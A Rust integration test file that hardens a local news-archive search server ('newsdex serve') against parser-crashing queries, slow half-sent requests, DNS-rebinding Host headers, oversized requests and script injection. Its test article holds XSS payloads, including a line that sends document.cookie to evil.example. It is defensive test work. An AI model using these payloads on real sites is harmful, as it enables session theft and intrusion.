//! `newsdex serve` against hostile and careless clients (issue 10): requests that panic or
//! overflow the parser, slow and half-sent requests, foreign Host headers, oversized
//! requests, and articles carrying script payloads. The server must answer each with a
//! clear JSON error, never its internals, and go on answering everyone else.

use std::io::{Read, Write};

use crate::support::Archive;
use crate::support::encode;
use crate::support::serve::{Reply, Served};

/// A plain news page of `site` in `lang`, published on one date.
fn page(url: &str, site: &str, lang: &str, title: &str, paragraphs: &[&str]) -> String {
    crate::support::news_page(url, site, "2025-04-12T08:00:00Z", lang, title, paragraphs)
}

const ENGLISH: [&str; 3] = [
    "Engineers at the Harwick dam began releasing water on Thursday after three days of heavy rain raised the reservoir to its highest level in forty years, the regional water authority said.",
    "Residents of four villages downstream were told to move valuables upstairs, and the authority opened two emergency shelters in the market town of Eastleigh.",
    "Farmers said fields along the river were already flooded and that the controlled release would delay the harvest of late potatoes by at least a fortnight.",
];

const RUSSIAN: [&str; 4] = [
    "Уровень воды в Волге у Казани за сутки поднялся почти на два метра, сообщил в субботу глава городского управления по чрезвычайным ситуациям Андрей Соколов. Жителей прибрежных улиц попросили поднять ценные вещи на верхние этажи.",
    "По словам Соколова, спасатели развернули три пункта временного размещения в школах Кировского района, а на набережной круглосуточно дежурят бригады с насосами. Мэр города Ильсур Метшин провёл экстренное совещание и поручил проверить дамбы.",
    "Синоптики ожидают, что пик паводка придётся на понедельник, когда в реку поступит талая вода с верховьев. Фермеры в пригородах говорят, что поля уже затоплены и посевная кампания задержится как минимум на две недели.",
    "Последний раз вода поднималась так высоко в 1979 году, напомнили в краеведческом музее. Тогда затопило несколько деревень ниже по течению, и жителей пришлось эвакуировать на лодках.",
];

/// An archive of one English and one Russian article.
fn archive() -> Archive {
    let archive = Archive::new();
    let dir = archive.path().join("pages");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("dam.html"),
        page(
            "https://northernpost.example/news/harwick-dam",
            "Northern Post",
            "en",
            "Harwick dam releases water after record rain",
            &ENGLISH,
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("kazan.html"),
        page(
            "https://vesti.example/news/kazan-flood",
            "Волжские вести",
            "ru",
            "Паводок в Казани: вода поднялась на два метра",
            &RUSSIAN,
        ),
    )
    .unwrap();
    let run = archive.run(&["ingest", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{run:?}");
    archive
}

/// The server still answers an ordinary search, with the right hit.
fn answers_normally(server: &mut Served) {
    assert!(server.is_running(), "serve died: {}", server.stderr());
    let reply = server.get("/api/search?q=harwick+reservoir");
    assert_eq!(reply.status, 200, "{reply:?}");
    let results = reply.json();
    assert_eq!(results["total"], 1, "{results}");
    assert_eq!(
        results["hits"][0]["url"],
        "https://northernpost.example/news/harwick-dam"
    );
}

/// An error as the API answers it: JSON `{"error": ...}` saying nothing of the server's
/// insides (panic text, source files, local paths).
fn assert_clean_error(reply: &Reply, archive: &Archive) {
    assert_eq!(
        reply.header("content-type"),
        Some("application/json"),
        "{reply:?}"
    );
    let message = reply.json()["error"]
        .as_str()
        .unwrap_or_else(|| panic!("no error message: {reply:?}"))
        .to_owned();
    for leak in [
        "panicked",
        "char boundary",
        "bound must be set",
        ".rs:",
        "/src/",
        archive.path().to_str().unwrap(),
    ] {
        assert!(!message.contains(leak), "`{leak}` leaked: {message}");
    }
}

/// Regression (issue 10, item 2): a search that panicked inside the index (a Russian word
/// whose snippet was cut inside a character, `published:..`) poisoned the highlighter's lock,
/// and every later search answered 500 until restart; the 500 carried the panic's text.
/// Whether or not the index still panics on these, each is answered alone and the server
/// goes on.
#[test]
fn a_request_that_panics_never_breaks_the_requests_after_it() {
    let archive = archive();
    let mut server = Served::start(&archive, &[]);
    answers_normally(&mut server);
    for query in [
        "вода",
        "вода поднялась",
        "published:..",
        "Соколов",
        "паводок",
        "вода",
    ] {
        for api in ["search", "persons"] {
            let reply = server.get(&format!("/api/{api}?q={}", encode(query)));
            match reply.status {
                200 => assert!(reply.json().is_object()),
                400 | 500 => assert_clean_error(&reply, &archive),
                other => panic!("{query} on /api/{api}: status {other}: {reply:?}"),
            }
            answers_normally(&mut server);
        }
        let page = server.get(&format!("/?q={}", encode(query)));
        assert!([200, 400, 500].contains(&page.status), "{query}: {page:?}");
        assert!(!page.body.contains("panicked"), "{}", page.body);
        answers_normally(&mut server);
    }
}

/// Regression (issue 10, item 3): one 2 KB GET of `NOT NOT NOT ... x` overflowed the
/// parser's stack and killed serve. A query up to the limit is answered (or refused with a
/// 400 by the parser); a longer one is refused before parsing.
#[test]
fn a_2kb_chain_of_nots_leaves_serve_running() {
    let archive = archive();
    let mut server = Served::start(&archive, &[]);
    for query in [
        format!("{}x", "NOT ".repeat(511)),
        format!("{}x", "-".repeat(2000)),
        format!("{}x{}", "(".repeat(1000), ")".repeat(1000)),
        format!("{}x", "(NOT ".repeat(400)),
        format!("{}x", "NOT (".repeat(400)),
    ] {
        assert!(query.len() <= 2048);
        for api in ["search", "persons"] {
            let reply = server.get(&format!("/api/{api}?q={}", encode(&query)));
            assert!([200, 400].contains(&reply.status), "{reply:?}");
            if reply.status == 400 {
                assert_clean_error(&reply, &archive);
            }
            answers_normally(&mut server);
        }
    }
    // Over the query limit: refused before parsing, saying the limit.
    let long = format!("{}x", "NOT ".repeat(600));
    let reply = server.get(&format!("/api/search?q={}", encode(&long)));
    assert_eq!(reply.status, 400, "{reply:?}");
    assert_clean_error(&reply, &archive);
    assert!(
        reply.json()["error"]
            .as_str()
            .unwrap()
            .contains("the limit is 2048"),
        "{reply:?}"
    );
    // The command line's reproducer, 8 KB of `NOT`s: over the request-target limit too.
    let longer = format!("{}x", "NOT ".repeat(2000));
    let reply = server.get(&format!("/api/search?q={}", encode(&longer)));
    assert!([400, 414].contains(&reply.status), "{reply:?}");
    assert_clean_error(&reply, &archive);
    answers_normally(&mut server);
}

/// Regression (issue 10, serve hardening): serve had no header-read or idle timeout, so a
/// client that sent half a request (or nothing) held its connection for ever.
#[test]
fn a_client_that_sends_half_a_request_is_cut_off_and_others_are_answered() {
    let archive = archive();
    let mut server = Served::start(&archive, &["--client-timeout", "1"]);
    let mut half = server.connect();
    write!(
        half,
        "GET /api/search?q=harwick HTTP/1.1\r\nHost: {}\r\nUser-Agent: slow",
        server.addr
    )
    .unwrap();
    let idle = server.connect();
    // A client that finished one request and then went quiet on a kept-alive connection.
    let mut kept = server.connect();
    write!(
        kept,
        "GET /api/search?q=harwick HTTP/1.1\r\nHost: {}\r\n\r\n",
        server.addr
    )
    .unwrap();
    let mut slow = Vec::new();
    for _ in 0..20 {
        let mut stream = server.connect();
        stream.write_all(b"GET / HTTP/1.1\r\n").unwrap();
        slow.push(stream);
    }
    // Meanwhile, everyone else is answered.
    answers_normally(&mut server);
    // Then the server closes each of them (reading until it does; a hung server fails the
    // read after `PATIENCE`, not this test's expectations of speed).
    for (name, mut stream) in [("half", half), ("idle", idle), ("kept-alive", kept)]
        .into_iter()
        .chain(slow.into_iter().map(|s| ("slow", s)))
    {
        let mut got = Vec::new();
        stream
            .read_to_end(&mut got)
            .unwrap_or_else(|err| panic!("the {name} connection was left open: {err}"));
        let got = String::from_utf8_lossy(&got);
        if name == "kept-alive" {
            assert!(got.starts_with("HTTP/1.1 200"), "{got}");
        } else {
            assert!(!got.contains(" 200 OK"), "{name}: {got}");
        }
    }
    answers_normally(&mut server);
}

/// Regression (issue 10, serve hardening): serve answered any Host, so a web page could
/// reach it through DNS rebinding.
#[test]
fn only_the_servers_own_names_are_answered() {
    let archive = archive();
    let server = Served::start(&archive, &[]);
    let port = server.addr.port();
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        "localhost".to_owned(),
    ] {
        let reply = server.get_as("/api/search?q=harwick", &host);
        assert_eq!(reply.status, 200, "{host}: {reply:?}");
    }
    for host in [
        format!("rebind.evil.example:{port}"),
        "archive.lan".to_owned(),
        "127.0.0.1.nip.example".to_owned(),
    ] {
        for target in ["/api/search?q=harwick", "/?q=harwick", "/"] {
            let reply = server.get_as(target, &host);
            assert_eq!(reply.status, 403, "{host}: {reply:?}");
            assert_clean_error(&reply, &archive);
            assert!(!reply.body.contains("Harwick"), "{reply:?}");
        }
    }
    let reply = server.send(b"GET /api/search?q=harwick HTTP/1.0\r\n\r\n");
    assert_eq!(reply.status, 400, "no Host: {reply:?}");
    drop(server);

    let server = Served::start(&archive, &["--allow-host", "archive.lan"]);
    assert_eq!(server.get_as("/?q=harwick", "archive.lan:8080").status, 200);
    assert_eq!(server.get_as("/?q=harwick", "Archive.LAN").status, 200);
    assert_eq!(server.get_as("/?q=harwick", "evil.example").status, 403);
    drop(server);

    let server = Served::start(&archive, &["--allow-host", "*"]);
    assert_eq!(server.get_as("/?q=harwick", "anything.example").status, 200);
}

/// Regression (issue 10, serve hardening): errors other than a bad query were plain text or
/// empty, and no response said `nosniff` or forbade framing.
#[test]
fn errors_are_json_and_every_response_carries_security_headers() {
    let archive = archive();
    let mut server = Served::start(&archive, &[]);
    let addr = server.addr;
    let cases: Vec<(String, u16)> = vec![
        (
            format!("GET /nowhere HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"),
            404,
        ),
        (
            format!(
                "GET /api/search?q=titel%3Adam HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
            ),
            400,
        ),
        (
            format!(
                "POST /api/search?q=dam HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
            ),
            405,
        ),
        (
            format!(
                "GET /api/search?q=dam HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello"
            ),
            413,
        ),
        (
            format!(
                "GET /api/search?q=dam&site={} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n",
                "a".repeat(9000)
            ),
            414,
        ),
    ];
    for (request, status) in &cases {
        let reply = server.send(request.as_bytes());
        assert_eq!(reply.status, *status, "{reply:?}");
        assert_clean_error(&reply, &archive);
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"));
    }
    // A head bigger than any search needs is refused by the HTTP layer itself.
    let huge = format!(
        "GET /api/search?q=dam HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nX-Padding: {}\r\n\r\n",
        "a".repeat(64 * 1024)
    );
    let mut stream = server.connect();
    let _ = stream.write_all(huge.as_bytes());
    let mut got = Vec::new();
    let _ = stream.read_to_end(&mut got);
    assert!(
        !String::from_utf8_lossy(&got).contains(" 200 "),
        "{}",
        String::from_utf8_lossy(&got)
    );
    answers_normally(&mut server);

    for target in [
        "/",
        "/?q=harwick",
        "/style.css",
        "/app.js",
        "/api/search?q=harwick",
        "/api/persons",
    ] {
        let reply = server.get(target);
        assert_eq!(reply.status, 200, "{target}: {reply:?}");
        assert_eq!(
            reply.header("x-content-type-options"),
            Some("nosniff"),
            "{target}"
        );
        assert_eq!(
            reply.header("referrer-policy"),
            Some("no-referrer"),
            "{target}"
        );
        assert_eq!(reply.header("x-frame-options"), Some("DENY"), "{target}");
        let policy = reply.header("content-security-policy").unwrap_or_default();
        assert!(policy.contains("default-src 'none'"), "{target}: {policy}");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{target}: {policy}"
        );
    }
    // The page works under its own policy: its one stylesheet comes from the server.
    let page = server.get("/?q=harwick");
    assert!(
        page.body
            .contains(r#"<link rel="stylesheet" href="/style.css">"#)
    );
    assert!(!page.body.contains("<style"), "no inline style");
    // Its one script is the server's own file (issue 13), never inline.
    assert_eq!(page.body.matches("<script").count(), 1, "{}", page.body);
    assert!(
        page.body
            .contains(r#"<script src="/app.js" defer></script>"#)
    );
}

/// Every value from an article is escaped on the page, and a URL that is not http(s) never
/// becomes a link (issue 10, item 4; escaping held before, this keeps it).
#[test]
fn hostile_article_values_are_escaped_on_the_page_and_in_the_api() {
    let archive = Archive::new();
    let dir = archive.path().join("pages");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("hostile.html"),
        r#"<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>&lt;script&gt;alert(1)&lt;/script&gt; Budget vote &lt;img src=x onerror=alert(2)&gt;</title>
<link rel="canonical" href="javascript:alert(3)">
<meta property="og:url" content="javascript:alert(4)">
<meta property="og:site_name" content="&quot;&gt;&lt;script&gt;alert(5)&lt;/script&gt;">
<meta name="author" content="&lt;svg onload=alert(6)&gt;">
</head><body><article><h1>&lt;script&gt;alert(1)&lt;/script&gt; Budget vote &lt;img src=x onerror=alert(2)&gt;</h1>
<p>The budget vote was delayed on Tuesday after &lt;script&gt;document.location='https://evil.example/?'+document.cookie&lt;/script&gt; appeared in the draft, a spokesman for the finance committee said.</p>
<p>Committee members said the &lt;img src=x onerror="alert(7)"&gt; markup had been pasted from a website and that the budget text itself was unchanged.</p>
<p>A new vote on the budget is expected next week, once the clerks have checked every amendment for stray code.</p>
</article></body></html>"#,
    )
    .unwrap();
    let run = archive.run(&["ingest", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{run:?}");
    let server = Served::start(&archive, &[]);
    for target in [
        "/?q=budget",
        "/?q=script",
        "/?q=%3Cscript%3Ealert(1)",
        "/?q=onerror",
    ] {
        let reply = server.get(target);
        assert_eq!(reply.status, 200, "{reply:?}");
        let html = &reply.body;
        let lower = html.to_ascii_lowercase();
        // The app's own script file is the only one (issue 13).
        assert_eq!(lower.matches("<script").count(), 1, "{html}");
        assert!(lower.contains(r#"<script src="/app.js" defer></script>"#));
        assert!(!lower.contains("<img"), "{html}");
        assert!(!lower.contains("<svg onload"), "{html}");
        assert!(!lower.contains("href=\"javascript"), "{html}");
    }
    let page = server.get("/?q=budget").body;
    assert!(page.contains("1 matching articles"), "{page}");
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{page}"
    );
    let api = server.get("/api/search?q=budget");
    assert_eq!(api.header("content-type"), Some("application/json"));
    let hit = &api.json()["hits"][0];
    assert!(
        hit["title"]
            .as_str()
            .unwrap()
            .contains("<script>alert(1)</script>")
    );
    let snippet_html = hit["snippet_html"].as_str().unwrap();
    assert!(!snippet_html.contains("<script") && !snippet_html.contains("<img"));
}
